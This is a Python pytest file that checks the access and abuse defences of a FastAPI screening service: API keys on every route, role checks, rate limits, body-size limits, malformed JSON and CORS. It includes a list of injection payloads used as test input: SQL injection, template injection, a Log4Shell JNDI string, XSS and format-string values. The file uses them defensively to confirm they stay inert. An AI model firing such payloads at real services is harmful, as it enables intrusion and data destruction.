"""Access and abuse: keys on every route, roles, rate limits, body limits, bad input."""

from __future__ import annotations

import logging
import re
from collections.abc import Iterator
from typing import Annotated
from urllib.parse import quote

import pytest
from fastapi import Depends
from fastapi.routing import iter_route_contexts

from redline.service.access import RateLimiter, require
from redline.service.principal import Principal, Role
from tests.service.conftest import AUTH, MakeService, Service
from tests.service.fakes import ADMIN_KEY, ANALYST_KEY, VIEWER_KEY

OPEN = {"/healthz", "/readyz"}
OPEN_OPS = {("GET", path) for path in OPEN}


def _workspace(path: str) -> bool:
    """The review workspace's pages use login sessions, not keys: their own walk is
    ``tests/web/test_security.py::test_every_workspace_route_needs_a_session``."""
    return path == "/" or path.startswith("/web/")


def _routes(service: Service) -> Iterator[tuple[str, str]]:
    """Every (method, path) the app serves; included routers are walked through."""
    for route in iter_route_contexts(service.app.routes):
        if route.path is None or route.path in OPEN or _workspace(route.path):
            continue
        for method in sorted(route.methods or ()):
            if method != "HEAD":
                yield method, re.sub(r"\{[^}]+\}", "x", route.path)


def test_every_route_but_health_needs_a_key(service: Service):
    checked = list(_routes(service))
    spec = service.client.get("/openapi.json", headers=AUTH).json()
    documented = {
        (method.upper(), re.sub(r"\{[^}]+\}", "x", path))
        for path, item in spec["paths"].items()
        for method in item
    }
    assert documented - OPEN_OPS <= set(checked), "the walk missed documented routes"
    assert {("GET", "/docs"), ("GET", "/openapi.json"), ("GET", "/metrics")} <= set(checked)
    for method, path in checked:
        for headers in ({}, {"Authorization": "Bearer wrong"}, {"X-API-Key": "wrong"}):
            resp = service.client.request(method, path, headers=headers)
            assert resp.status_code == 401, (method, path, headers, resp.status_code)
            assert resp.headers["www-authenticate"].startswith("Bearer")
    for path in OPEN:
        assert service.client.get(path).status_code == 200


@pytest.mark.parametrize(
    "headers",
    [
        {"Authorization": f"Bearer {VIEWER_KEY}"},
        {"Authorization": f"ApiKey {VIEWER_KEY}"},
        {"authorization": f"bearer   {VIEWER_KEY}"},
        {"X-API-Key": VIEWER_KEY},
    ],
)
def test_key_forms_accepted(service: Service, headers: dict[str, str]):
    assert service.client.get("/catalog", headers=headers).status_code == 200


def test_key_in_query_string_not_accepted(service: Service):
    assert service.client.get("/catalog", params={"api_key": VIEWER_KEY}).status_code == 401


def test_role_dependency_refuses_escalation(make_service: MakeService):
    svc = make_service()

    def analyst_only(p: Annotated[Principal, Depends(require(Role.analyst))]) -> dict[str, str]:
        return {"who": p.name}

    svc.app.add_api_route("/analyst-only", analyst_only, methods=["GET"])
    viewer = svc.client.get("/analyst-only", headers={"X-API-Key": VIEWER_KEY})
    assert viewer.status_code == 403
    assert "analyst" in viewer.json()["detail"] and "viewer" in viewer.json()["detail"]
    assert svc.client.get("/analyst-only").status_code == 401
    for key, name in ((ANALYST_KEY, "analyst"), (ADMIN_KEY, "admin")):
        resp = svc.client.get("/analyst-only", headers={"X-API-Key": key})
        assert resp.status_code == 200 and resp.json() == {"who": name}


def test_rate_limit_per_key_429_with_retry_after(make_service: MakeService):
    svc = make_service(rate_limit_per_minute=3)
    for _ in range(3):
        assert svc.client.get("/catalog", headers=AUTH).status_code == 200
    limited = svc.client.get("/catalog", headers=AUTH)
    assert limited.status_code == 429
    assert int(limited.headers["retry-after"]) >= 1
    other = svc.client.get("/catalog", headers={"X-API-Key": ANALYST_KEY})
    assert other.status_code == 200  # the bucket is per key
    assert svc.client.get("/healthz").status_code == 200


def test_token_bucket_refills_evenly():
    now = [0.0]
    limiter = RateLimiter(60, clock=lambda: now[0])
    assert all(limiter.acquire("k") == 0 for _ in range(60))
    assert limiter.acquire("k") == pytest.approx(1.0)
    now[0] += 0.5
    assert limiter.acquire("k") == pytest.approx(0.5)
    now[0] += 0.5
    assert limiter.acquire("k") == 0
    assert RateLimiter(0).acquire("k") == 0  # 0 = no limit


def test_oversize_body_is_413(make_service: MakeService):
    svc = make_service(max_body_bytes=2_000)
    names = ["x" * 100] * 50
    body = {"queries": {"q": {"schema": "Person", "properties": {"name": names}}}}
    resp = svc.client.post("/match/default", json=body, headers=AUTH)
    assert resp.status_code == 413 and "2000" in resp.json()["detail"]

    def chunks() -> Iterator[bytes]:  # no Content-Length: counted as it arrives
        yield b'{"queries": {"q": {"schema": "Person", "properties": {"name": ["'
        for _ in range(30):
            yield b"y" * 100
        yield b'"]}}}}'

    streamed = svc.client.post(
        "/match/default",
        content=chunks(),
        headers={**AUTH, "Content-Type": "application/json"},
    )
    assert streamed.status_code == 413
    form = svc.client.post("/reconcile/default", data={"queries": "z" * 3000}, headers=AUTH)
    assert form.status_code == 413
    small = {"queries": {"q": {"schema": "Person", "properties": {"name": ["Putin"]}}}}
    assert svc.client.post("/match/default", json=small, headers=AUTH).status_code == 200


@pytest.mark.parametrize(
    "content",
    [b"{not json", b"[]", b'{"queries": []}', b'{"queries": {"q": 5}}', b"\xff\xfe", b"null"],
)
def test_malformed_json_is_4xx(service: Service, content: bytes):
    resp = service.client.post(
        "/match/default", content=content, headers={**AUTH, "Content-Type": "application/json"}
    )
    assert 400 <= resp.status_code < 500, resp.text
    bad = service.client.post(
        "/reconcile/default", content=content, headers={**AUTH, "Content-Type": "application/json"}
    )
    assert 400 <= bad.status_code < 500, bad.text


INJECTIONS = [
    "'; DROP TABLE entity; --",
    '" OR 1=1 --',
    "{{7*7}}",
    "${jndi:ldap://example.invalid/a}",
    "<script>alert(1)</script>",
    "%s%s%n%x",
    "Robert'); DELETE FROM source_version;--",
    "a\u0000b",
    "\u202e\u0645\u062d\u0645\u062f",
]


def test_injection_strings_are_inert(service: Service):
    before = service.client.get("/catalog", headers=AUTH).json()
    for text in INJECTIONS:
        query = {"schema": "Person", "properties": {"name": [text], "idNumber": [text]}}
        resp = service.client.post("/match/default", json={"queries": {"q": query}}, headers=AUTH)
        assert resp.status_code < 500, (text, resp.text)
        for path, params in (
            ("/search/default", {"q": text}),
            ("/reconcile/default/suggest/entity", {"prefix": text}),
            ("/reconcile/default/suggest/property", {"prefix": text}),
            ("/reconcile/default/preview", {"id": text}),
            ("/entities/" + quote(text, safe=""), {}),
        ):
            got = service.client.get(path, params=params, headers=AUTH)
            assert got.status_code < 500, (path, text, got.text)
            if "html" in got.headers.get("content-type", ""):
                assert "<script>" not in got.text
        if resp.status_code == 200:  # echoed as given: no template was evaluated
            echo = resp.json()["responses"]["q"]["query"]["properties"].get("name", [])
            assert "49" not in echo and all("$" not in v or "jndi" in v for v in echo)
    after = service.client.get("/catalog", headers=AUTH).json()
    assert after == before


def test_secrets_never_logged(service: Service, caplog: pytest.LogCaptureFixture):
    secret = "rk_not_a_real_key_" + "9" * 20
    with caplog.at_level(logging.DEBUG):
        service.client.get("/catalog", headers={"Authorization": f"Bearer {secret}"})
        service.client.get("/catalog", headers=AUTH)
        service.client.post("/match/default", content=b"{bad", headers=AUTH)
    assert secret not in caplog.text and VIEWER_KEY not in caplog.text
    resp = service.client.get("/catalog", headers={"Authorization": f"Bearer {secret}"})
    assert secret not in resp.text


def test_metrics_count_requests_by_route(service: Service):
    service.client.get("/entities/nope", headers=AUTH)
    resp = service.client.get("/metrics", headers=AUTH)
    assert resp.status_code == 200
    assert resp.headers["content-type"].startswith("text/plain")
    text = resp.text
    assert re.search(
        r'redline_http_requests_total\{method="GET",route="/entities/\{entity_id\}",'
        r'status="404"\} [1-9]',
        text,
    )
    assert "redline_http_request_seconds_bucket" in text
    assert 'redline_list_version{source="us_ofac_sdn"}' in text
    assert "redline_index_ready 1.0" in text
    assert "/entities/nope" not in text


def test_docs_and_openapi_behind_a_key(service: Service):
    assert service.client.get("/docs").status_code == 401
    spec = service.client.get("/openapi.json", headers=AUTH)
    assert spec.status_code == 200 and "/match/{dataset}" in spec.json()["paths"]
    schemes = spec.json()["components"]["securitySchemes"]
    assert {s["type"] for s in schemes.values()} == {"http", "apiKey"}
    match_op = spec.json()["paths"]["/match/{dataset}"]["post"]
    assert match_op["security"], "the key requirement is documented per operation"
    assert "swagger-ui" in service.client.get("/docs", headers=AUTH).text


def test_cors_only_for_configured_origins(make_service: MakeService, service: Service):
    origin = "https://refine.example.org"
    preflight = {
        "Origin": origin,
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization",
    }
    svc = make_service(cors_origins=[origin])
    allowed = svc.client.options("/reconcile/default", headers=preflight)
    assert allowed.status_code == 200
    assert allowed.headers["access-control-allow-origin"] == origin
    answered = svc.client.get("/catalog", headers={**AUTH, "Origin": origin})
    assert answered.headers["access-control-allow-origin"] == origin
    assert svc.client.get("/catalog", headers={"Origin": origin}).status_code == 401
    other = svc.client.get("/catalog", headers={**AUTH, "Origin": "https://evil.example"})
    assert "access-control-allow-origin" not in other.headers
    default = service.client.get("/catalog", headers={**AUTH, "Origin": origin})
    assert "access-control-allow-origin" not in default.headers


def test_deeply_nested_json_is_4xx(service: Service):
    deep = "[" * 100_000 + "]" * 100_000
    json_headers = {**AUTH, "Content-Type": "application/json"}
    attempts = [
        service.client.post("/match/default", content=deep, headers=json_headers),
        service.client.post("/reconcile/default", content=deep, headers=json_headers),
        service.client.post("/reconcile/default", data={"queries": deep}, headers=AUTH),
        service.client.post("/reconcile/default", data={"extend": deep}, headers=AUTH),
        service.client.post(
            "/reconcile/default", content=f'{{"queries": {deep}}}', headers=json_headers
        ),
    ]
    for resp in attempts:
        assert 400 <= resp.status_code < 500, resp.text[:200]
